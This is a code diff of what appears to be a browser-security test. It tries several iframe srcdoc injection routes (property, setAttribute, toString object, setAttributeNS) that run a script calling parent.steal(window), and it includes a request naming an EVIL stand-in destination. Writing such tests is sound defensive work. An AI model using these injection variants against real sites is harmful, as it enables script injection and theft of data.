@@ -15,20 +15,23 @@ export default {
         body: JSON.stringify({ to: a.EVIL }),
       });
     const inner = (how) => `<script>parent.steal(window, "${how}")</script>`;
-    const make = () => document.createElement('iframe');
-    const place = (frame) => document.documentElement.appendChild(frame);
-    place(make()).srcdoc = inner('property');
-    place(make()).setAttribute('srcdoc', inner('attribute'));
-    place(make()).setAttribute('srcDoc', { toString: () => inner('worded') });
-    const before = make();
-    before.setAttributeNS(null, 'srcdoc', inner('before'));
-    place(before);
-    const attribute = document.createAttribute('srcdoc');
-    attribute.value = inner('node');
-    const held = make();
-    held.setAttributeNode(attribute);
-    place(held);
-    place(document.createElement('div')).innerHTML = `<iframe srcdoc='${inner('markup')}'></iframe>`;
+    const ways = {
+      property: (frame) => (frame.srcdoc = inner('property')),
+      attribute: (frame) => frame.setAttribute('srcdoc', inner('attribute')),
+      worded: (frame) => frame.setAttribute('srcDoc', { toString: () => inner('worded') }),
+      named: (frame) => frame.setAttributeNS(null, 'srcdoc', inner('named')),
+    };
+    // A frame's first document may hand its window on to the next, which is covered then: here it is the second that counts.
+    const frames = [];
+    for (const way of Object.keys(ways)) {
+      const frame = document.createElement('iframe');
+      const loaded = new Promise((resolve) => (frame.onload = resolve));
+      frame.src = `/frame.html?${way}`;
+      document.documentElement.append(frame);
+      await loaded;
+      frames.push(frame);
+    }
+    Object.values(ways).forEach((way, i) => way(frames[i]));
     await new Promise((resolve) => setTimeout(resolve, 1200));
   },
 
